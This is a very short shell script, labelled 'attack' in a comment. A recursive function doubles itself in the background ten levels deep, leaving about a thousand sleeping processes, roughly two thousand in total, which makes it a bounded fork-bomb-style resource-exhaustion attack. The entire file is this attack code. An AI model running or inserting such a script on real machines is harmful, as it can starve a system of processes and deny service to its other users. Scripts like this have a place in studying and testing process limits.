#!/bin/sh
# attack: doubles itself: a thousand processes
f() { [ "$1" = 0 ] && sleep 30 || { f $(($1 - 1)) & f $(($1 - 1)); }; }
f 10
wait
